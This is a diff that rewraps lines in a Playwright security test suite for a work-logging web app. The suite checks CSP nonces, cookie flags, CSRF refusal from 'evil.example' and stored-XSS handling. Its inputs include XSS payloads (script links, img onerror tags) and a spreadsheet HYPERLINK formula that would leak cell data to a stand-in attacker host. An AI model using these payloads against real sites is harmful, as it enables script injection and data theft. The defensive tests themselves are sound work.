@@ -34,22 +34,39 @@ function watchCsp(page: Page): () => string[] {
   });
   void page.addInitScript(() => {
     document.addEventListener("securitypolicyviolation", (event) => {
-      console.error(`CSP violation: ${event.violatedDirective} blocked ${event.blockedURI || "inline"} in ${event.sourceFile}:${event.lineNumber}`);
+      console.error(
+        `CSP violation: ${event.violatedDirective} blocked ${event.blockedURI || "inline"} in ${event.sourceFile}:${event.lineNumber}`,
+      );
     });
   });
   return () => [...seen];
 }
 
 function directivesOf(policy: string | undefined): Map<string, string> {
-  return new Map((policy ?? "").split(";").map((part) => {
-    const [name = "", ...values] = part.trim().split(/\s+/);
-    return [name, values.join(" ")];
-  }));
+  return new Map(
+    (policy ?? "").split(";").map((part) => {
+      const [name = "", ...values] = part.trim().split(/\s+/);
+      return [name, values.join(" ")];
+    }),
+  );
 }
 
-const MAIN_PAGES = ["/", "/week", "/share", "/reports", "/reports/sources", "/reports/trend", "/reports/interrupts", "/rotations", "/settings", "/profile"];
+const MAIN_PAGES = [
+  "/",
+  "/week",
+  "/share",
+  "/reports",
+  "/reports/sources",
+  "/reports/trend",
+  "/reports/interrupts",
+  "/rotations",
+  "/settings",
+  "/profile",
+];
 
-test("every page carries the security headers and runs under its nonce CSP without a violation @postgres", async ({ page }) => {
+test("every page carries the security headers and runs under its nonce CSP without a violation @postgres", async ({
+  page,
+}) => {
   test.slow();
   const violations = watchCsp(page);
   await signIn(page, DEMO.manager);
@@ -80,7 +97,10 @@ test("every page carries the security headers and runs under its nonce CSP witho
     const served = (await response?.text()) ?? "";
     const scriptTags = served.match(/<script\b[^>]*>/g) ?? [];
     expect(scriptTags.length, `${path} has scripts`).toBeGreaterThan(0);
-    expect(scriptTags.filter((tag) => !/\snonce="[^"]+"/.test(tag)), path).toEqual([]);
+    expect(
+      scriptTags.filter((tag) => !/\snonce="[^"]+"/.test(tag)),
+      path,
+    ).toEqual([]);
   }
   expect(nonces.size, "a fresh nonce per response").toBe(MAIN_PAGES.length);
 
@@ -110,7 +130,10 @@ test("every page carries the security headers and runs under its nonce CSP witho
   expect(await page.evaluate(() => document.body.dataset.inlineRan)).toBeUndefined();
 });
 
-test("data responses may load nothing; the configured http address wins over a forged X-Forwarded-Proto @postgres", async ({ page, baseURL }) => {
+test("data responses may load nothing; the configured http address wins over a forged X-Forwarded-Proto @postgres", async ({
+  page,
+  baseURL,
+}) => {
   const api = await page.request.get("/api/trpc/viewer.current");
   expect(api.headers()).toMatchObject({ "x-content-type-options": "nosniff", "x-frame-options": "DENY" });
   expect(directivesOf(api.headers()["content-security-policy"]).get("default-src")).toBe("'none'");
@@ -123,32 +146,50 @@ test("data responses may load nothing; the configured http address wins over a f
 
   const origin = new URL(baseURL ?? "").host;
   const sessionCookie = (response: APIResponse) =>
-    response.headersArray().find((header) => header.name.toLowerCase() === "set-cookie" && header.value.includes("session_token"))?.value ?? "";
+    response
+      .headersArray()
+      .find((header) => header.name.toLowerCase() === "set-cookie" && header.value.includes("session_token"))?.value ??
+    "";
   const body = { email: DEMO.planner, password: DEMO_PASSWORD };
-  const http = sessionCookie(await page.request.post("/api/auth/sign-in/email", { data: body, headers: { origin: `http://${origin}` } }));
+  const http = sessionCookie(
+    await page.request.post("/api/auth/sign-in/email", { data: body, headers: { origin: `http://${origin}` } }),
+  );
   expect(http).toMatch(/^better-auth\.session_token=/);
   expect(http).toMatch(/HttpOnly/i);
   expect(http).toMatch(/SameSite=Lax/i);
   expect(http).not.toMatch(/Secure/i);
   const claimed = sessionCookie(
-    await page.request.post("/api/auth/sign-in/email", { data: body, headers: { origin: `http://${origin}`, "x-forwarded-proto": "https" } }),
+    await page.request.post("/api/auth/sign-in/email", {
+      data: body,
+      headers: { origin: `http://${origin}`, "x-forwarded-proto": "https" },
+    }),
   );
   expect(claimed).toMatch(/^better-auth\.session_token=/);
   expect(claimed).not.toMatch(/Secure/i);
 });
 
-test("a forged cross-site request is refused and changes nothing; our own pages' requests go through @postgres", async ({ page, baseURL }) => {
+test("a forged cross-site request is refused and changes nothing; our own pages' requests go through @postgres", async ({
+  page,
+  baseURL,
+}) => {
   await signIn(page, DEMO.planner);
   const own = baseURL ?? "";
-  const recentSummaries = async () => (await trpcQuery<Array<{ summary: string }>>(page, "workLog.recent", { limit: 100 })).map((entry) => entry.summary);
+  const recentSummaries = async () =>
+    (await trpcQuery<Array<{ summary: string }>>(page, "workLog.recent", { limit: 100 })).map((entry) => entry.summary);
   const entry = (summary: string) => ({ summary, duration: "5m", category: "overhead" });
 
   // With the victim's cookie and a JSON body that would otherwise be accepted.
   const forgedSummary = uniqueName("Forged entry");
-  const forged = await mutate(page, "workLog.create", entry(forgedSummary), { origin: "https://evil.example", "sec-fetch-site": "cross-site" });
+  const forged = await mutate(page, "workLog.create", entry(forgedSummary), {
+    origin: "https://evil.example",
+    "sec-fetch-site": "cross-site",
+  });
   expect(forged.status()).toBe(403);
   expect(await forged.json()).toMatchObject({ error: { status: 403, code: "cross_site_request" } });
-  const forgedSignOut = await page.request.post("/api/auth/sign-out", { headers: { origin: "https://evil.example" }, data: {} });
+  const forgedSignOut = await page.request.post("/api/auth/sign-out", {
+    headers: { origin: "https://evil.example" },
+    data: {},
+  });
   expect(forgedSignOut.status()).toBe(403);
 
   // A real browser: a page on another origin of the same site (the other test server's port) and one on another
@@ -172,7 +213,9 @@ test("a forged cross-site request is refused and changes nothing; our own pages'
     expect(response.status(), attacker.origin).toBe(403);
     const sent = await response.request().allHeaders();
     expect(sent.origin).toBe(new URL(attacker.origin).origin);
-    expect((sent.cookie ?? "").includes("session_token"), `cookie sent from ${attacker.origin}`).toBe(attacker.cookieSent);
+    expect((sent.cookie ?? "").includes("session_token"), `cookie sent from ${attacker.origin}`).toBe(
+      attacker.cookieSent,
+    );
     expect(await recentSummaries()).not.toContain(summary);
   }
   expect(await recentSummaries()).not.toContain(forgedSummary);
@@ -180,11 +223,16 @@ test("a forged cross-site request is refused and changes nothing; our own pages'
   // Still signed in (the forged sign-out did nothing), and the same request from our own origin works.
   await page.goto("/");
   const ownSummary = uniqueName("Own entry");
-  const accepted = await mutate(page, "workLog.create", entry(ownSummary), { origin: new URL(own).origin, "sec-fetch-site": "same-origin" });
+  const accepted = await mutate(page, "workLog.create", entry(ownSummary), {
+    origin: new URL(own).origin,
+    "sec-fetch-site": "same-origin",
+  });
   expect(accepted.status(), await accepted.text()).toBe(200);
   const created = (await recentSummaries()).includes(ownSummary);
   expect(created).toBe(true);
-  const [mine] = (await trpcQuery<Array<{ id: string; summary: string }>>(page, "workLog.recent", { limit: 100 })).filter((e) => e.summary === ownSummary);
+  const [mine] = (
+    await trpcQuery<Array<{ id: string; summary: string }>>(page, "workLog.recent", { limit: 100 })
+  ).filter((e) => e.summary === ownSummary);
   if (mine) await mutation(page, "workLog.remove", { id: mine.id });
 });
 
@@ -193,12 +241,20 @@ async function expectNothingInjected(page: Page, dialogs: string[], where: strin
   await page.waitForLoadState("networkidle");
   expect(dialogs, `${where}: dialogs`).toEqual([]);
   expect(await page.locator("[data-xss]").count(), `${where}: injected elements`).toBe(0);
-  const hrefs = await page.locator("a[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
-  expect(hrefs.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)), `${where}: script links`).toEqual([]);
+  const hrefs = await page
+    .locator("a[href]")
+    .evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
+  expect(
+    hrefs.filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)),
+    `${where}: script links`,
+  ).toEqual([]);
   expect(await page.evaluate(() => document.body.dataset.xss), `${where}: a payload ran`).toBeUndefined();
 }
 
-test("stored text is shown as text: HTML and script payloads in entries, interrupts and tickets run nowhere @postgres", async ({ page, browser }) => {
+test("stored text is shown as text: HTML and script payloads in entries, interrupts and tickets run nowhere @postgres", async ({
+  page,
+  browser,
+}) => {
   test.slow();
   const run = Date.now().toString(36);
   const payloads = {
@@ -219,8 +275,20 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
   if (!team) throw new Error("Olga has no team");
 
   // Links a user enters must be http(s): anything else is refused, naming the field.
-  for (const link of ["javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]) {
-    const refused = await mutate(page, "workLog.create", { teamId: team.id, summary: "bad link", duration: "5m", category: "toil", link });
+  for (const link of [
+    "javascript:alert(1)",
+    "JavaScript:alert(1)",
+    " javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+  ]) {
+    const refused = await mutate(page, "workLog.create", {
+      teamId: team.id,
+      summary: "bad link",
+      duration: "5m",
+      category: "toil",
+      link,
+    });
     expect(refused.status(), link).toBe(400);
     expect(await refused.text()).toContain("link");
   }
@@ -231,7 +299,12 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
     category: "toil",
     link: `https://runbooks.example/disk?q="><img src=x data-xss=link onerror=alert(6)>`,
   });
-  const plain = await mutation<{ id: string }>(page, "workLog.create", { teamId: team.id, summary: payloads.script, duration: "5m", category: "toil" });
+  const plain = await mutation<{ id: string }>(page, "workLog.create", {
+    teamId: team.id,
+    summary: payloads.script,
+    duration: "5m",
+    category: "toil",
+  });
   const interrupt = await mutation<{ id: string }>(page, "interrupts.create", {
     teamId: team.id,
     kind: "request",
@@ -246,7 +319,14 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
     name: `=HYPERLINK("https://evil.example/?"&A1,"open ${run}")`,
     duration: "5m",
     category: "toil",
-    traits: { manual: true, repetitive: true, automatable: true, tactical: false, noEnduringValue: true, scalesLinearly: false },
+    traits: {
+      manual: true,
+      repetitive: true,
+      automatable: true,
+      tactical: false,
+      noEnduringValue: true,
+      scalesLinearly: false,
+    },
   });
   const fromTemplate = await mutation<{ id: string }>(page, "templates.logFromTemplate", { templateId: template.id });
 
@@ -261,7 +341,10 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
   await signIn(admin, DEMO.admin);
   const opened = DateTime.now().minus({ hours: 2 }).toUTC().toISO();
   const csvCell = (text: string) => `"${text.replaceAll('"', '""')}"`;
-  const ticketCsv = ["ticket id,opened,resolved,assignee email,service,summary", `XSS-${run},${opened},,${OLGA},${csvCell(`db <img data-xss=ticketsvc src=x onerror=alert(8)>`)},${csvCell(payloads.quote)}`].join("\n");
+  const ticketCsv = [
+    "ticket id,opened,resolved,assignee email,service,summary",
+    `XSS-${run},${opened},,${OLGA},${csvCell(`db <img data-xss=ticketsvc src=x onerror=alert(8)>`)},${csvCell(payloads.quote)}`,
+  ].join("\n");
   expect(await mutation(admin, "tickets.commit", { teamId: team.id, csv: ticketCsv })).toMatchObject({ created: 1 });
 
   // Olga's pages: My work (recent entries, templates, the capture inbox) and My week.
@@ -279,12 +362,16 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
   await screenshot(page, "security-week-payloads");
 
   // The team's reports, as the admin: the engineer's drill-down and the toil sources.
-  const members = await trpcQuery<Array<{ personId: string; email: string }>>(admin, "teams.members", { teamId: team.id });
+  const members = await trpcQuery<Array<{ personId: string; email: string }>>(admin, "teams.members", {
+    teamId: team.id,
+  });
   const olgaId = members.find((member) => member.email === OLGA)?.personId;
   if (!olgaId) throw new Error("Olga is not in her team");
   const from = DateTime.now().startOf("week").minus({ weeks: 1 }).toISO();
   const to = DateTime.now().endOf("week").toISO();
-  await admin.goto(`/reports/drill?team=${team.id}&person=${olgaId}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}&all=1`);
+  await admin.goto(
+    `/reports/drill?team=${team.id}&person=${olgaId}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}&all=1`,
+  );
   await expect(admin.getByText(payloads.img).first()).toBeVisible();
   await expect(admin.getByText(payloads.svg).first()).toBeVisible();
   await expectNothingInjected(admin, dialogs, "drill-down");
@@ -303,18 +390,28 @@ test("stored text is shown as text: HTML and script payloads in entries, interru
   for (const row of rows) expect(row.source).not.toMatch(/^[=+\-@]/);
   const jsonDownloading = admin.waitForEvent("download");
   await admin.getByRole("button", { name: "JSON of the toil sources table" }).click();
-  const exported = JSON.parse(fs.readFileSync(await (await jsonDownloading).path(), "utf8")) as Array<{ source: string }>;
+  const exported = JSON.parse(fs.readFileSync(await (await jsonDownloading).path(), "utf8")) as Array<{
+    source: string;
+  }>;
   expect(exported.map((row) => row.source)).toContain(`=HYPERLINK("https://evil.example/?"&A1,"open ${run}")`);
 
   // The JSON API: served as JSON that browsers may not sniff, even when it echoes a hostile parameter.
-  const token = await mutation<{ secret: string; token: { id: string } }>(admin, "apiTokens.create", { name: uniqueName("security check") });
+  const token = await mutation<{ secret: string; token: { id: string } }>(admin, "apiTokens.create", {
+    name: uniqueName("security check"),
+  });
   const authorization = { authorization: `Bearer ${token.secret}` };
-  const report = await admin.request.get(`/api/v1/reports/toil?team=${team.id}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}`, { headers: authorization });
+  const report = await admin.request.get(
+    `/api/v1/reports/toil?team=${team.id}&from=${encodeURIComponent(from ?? "")}&to=${encodeURIComponent(to ?? "")}`,
+    { headers: authorization },
+  );
   expect(report.status()).toBe(200);
   expect(report.headers()["content-type"]).toMatch(/^application\/json/);
   expect(report.headers()["x-content-type-options"]).toBe("nosniff");
   expect(directivesOf(report.headers()["content-security-policy"]).get("default-src")).toBe("'none'");
-  const hostile = await admin.request.get(`/api/v1/reports/toil?team=${encodeURIComponent("<script>alert(9)</script>")}`, { headers: authorization });
+  const hostile = await admin.request.get(
+    `/api/v1/reports/toil?team=${encodeURIComponent("<script>alert(9)</script>")}`,
+    { headers: authorization },
+  );
   expect(hostile.status()).toBe(400);
   expect(hostile.headers()["content-type"]).toMatch(/^application\/json/);
   expect(hostile.headers()["x-content-type-options"]).toBe("nosniff");
